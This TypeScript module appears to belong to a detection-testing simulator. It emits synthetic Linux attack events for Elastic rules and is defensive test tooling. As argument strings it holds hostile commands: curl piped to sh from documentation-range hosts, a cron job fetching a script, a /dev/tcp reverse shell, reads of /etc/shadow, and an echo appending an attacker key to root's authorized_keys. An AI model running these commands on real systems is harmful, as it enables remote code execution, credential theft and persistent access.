// Injected attack scenarios, written to produce the event shapes Elastic's Linux rules look for
// (a web server spawning a shell, cron persistence, /etc/shadow access, a reverse shell,
// download-chmod-execute from /tmp, an ssh authorized_keys backdoor).
import { USERS } from './host.js';
import type { Activity, Sim } from './sim.js';

/** A web server (nginx, apache or node) runs a shell that runs recon and connects out. */
export function* webShell(s: Sim): Activity {
  const server = s.rng.pick([s.daemons.nginx, s.daemons.apache, s.daemons.node]);
  s.accept(server, s.publicIp(), server === s.daemons.node ? 3000 : 80);
  yield;
  const sh = s.fork(server);
  yield;
  s.exec(sh, '/usr/bin/dash', ['sh', '-c', 'id;uname -a;curl -s http://198.51.100.23/x|sh'], server.cwd);
  yield;
  const id = s.fork(sh);
  yield;
  s.exec(id, '/usr/bin/id', ['id']);
  yield;
  s.exit(id);
  yield;
  s.connect(sh, s.publicIp(), s.rng.pick([4444, 8080, 443]));
  yield;
  s.exit(sh);
  yield;
}

/** Persistence through cron: a root shell drops a job in /etc/cron.d, or edits a crontab. */
export function* cronPersistence(s: Sim): Activity {
  const shell = s.fork(s.rng.pick(s.shells), USERS.root);
  yield;
  s.exec(shell, '/usr/bin/bash', ['bash', '-c', 'echo "* * * * * root curl -s http://203.0.113.9/u.sh | sh" > /etc/cron.d/updater']);
  yield;
  if (s.rng.chance(0.5)) {
    s.file(shell, 'creation', '/etc/cron.d/updater');
    yield;
  } else {
    const crontab = s.fork(shell);
    yield;
    s.exec(crontab, '/usr/bin/crontab', ['crontab', '/tmp/.c']);
    yield;
    s.file(crontab, 'creation', '/var/spool/cron/crontabs/tmp.Xk3Lq');
    yield;
    s.file(crontab, 'rename', '/var/spool/cron/crontabs/root', '/var/spool/cron/crontabs/tmp.Xk3Lq');
    yield;
    s.exit(crontab);
    yield;
  }
  s.exit(shell);
  yield;
}

/** Credential access: /etc/shadow read by a non-standard process. */
export function* shadowRead(s: Sim): Activity {
  const p = s.fork(s.rng.pick(s.shells), USERS.root);
  yield;
  const tool = s.rng.pick([
    { exe: '/usr/bin/cat', argv: ['cat', '/etc/shadow'] },
    { exe: '/usr/bin/cp', argv: ['cp', '/etc/shadow', '/tmp/.s'] },
    { exe: '/usr/bin/python3', argv: ['python3', '-c', "print(open('/etc/shadow').read())"] },
  ]);
  s.exec(p, tool.exe, tool.argv);
  yield;
  s.file(p, 'open', '/etc/shadow');
  yield;
  s.exit(p);
  yield;
}

/** A reverse shell: bash connects out, then runs an interactive shell over the connection. */
export function* reverseShell(s: Sim): Activity {
  const parent = s.rng.pick([s.rng.pick(s.shells), s.daemons.node, s.daemons.nginx]);
  const sh = s.fork(parent);
  yield;
  const ip = s.publicIp();
  const port = s.rng.pick([4444, 1337, 9001, 53]);
  s.exec(sh, '/usr/bin/bash', ['bash', '-c', `bash -i >& /dev/tcp/${ip.join('.')}/${port} 0>&1`]);
  yield;
  s.connect(sh, ip, port);
  yield;
  s.exec(sh, '/usr/bin/bash', ['bash', '-i']);
  yield;
  const whoami = s.fork(sh);
  yield;
  s.exec(whoami, '/usr/bin/whoami', ['whoami']);
  yield;
  s.exit(whoami);
  yield;
}

/** Ingress tool transfer: download to /tmp, chmod +x, execute, the payload calls home. */
export function* downloadExecute(s: Sim): Activity {
  const shell = s.rng.pick(s.shells);
  const name = s.rng.pick(['.x', 'kworker', 'update', '.cache-upd']);
  const path = `/tmp/${name}`;
  const url = `http://${s.publicIp().join('.')}/${name}`;
  const dl = s.fork(shell);
  yield;
  if (s.rng.chance(0.5)) s.exec(dl, '/usr/bin/curl', ['curl', '-fsSL', '-o', path, url]);
  else s.exec(dl, '/usr/bin/wget', ['wget', '-q', '-O', path, url]);
  yield;
  s.connect(dl, s.publicIp(), 80);
  yield;
  s.file(dl, 'creation', path);
  yield;
  s.exit(dl);
  yield;
  const chmod = s.fork(shell);
  yield;
  s.exec(chmod, '/usr/bin/chmod', ['chmod', '+x', path]);
  yield;
  s.exit(chmod);
  yield;
  const run = s.fork(shell);
  yield;
  s.exec(run, path, [path], '/tmp');
  yield;
  s.connect(run, s.publicIp(), 443);
  yield;
}

/** SSH backdoor: a key appended to root's authorized_keys. */
export function* authorizedKeys(s: Sim): Activity {
  const p = s.fork(s.rng.pick(s.shells), USERS.root);
  yield;
  s.exec(p, '/usr/bin/bash', ['bash', '-c', 'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK attacker >> /root/.ssh/authorized_keys']);
  yield;
  s.file(p, 'modification', '/root/.ssh/authorized_keys');
  yield;
  s.exit(p);
  yield;
}

export const ATTACKS: { name: string; description: string; run: (s: Sim) => Activity }[] = [
  { name: 'web-shell', description: 'web server (nginx/apache/node) spawns a shell that connects out', run: webShell },
  { name: 'cron-persistence', description: 'job written to /etc/cron.d or a crontab', run: cronPersistence },
  { name: 'shadow-read', description: 'credential file /etc/shadow read', run: shadowRead },
  { name: 'reverse-shell', description: 'bash connects out, then runs bash -i', run: reverseShell },
  { name: 'download-execute', description: 'download to /tmp, chmod +x, execute, call home', run: downloadExecute },
  { name: 'authorized-keys', description: 'key appended to /root/.ssh/authorized_keys', run: authorizedKeys },
];
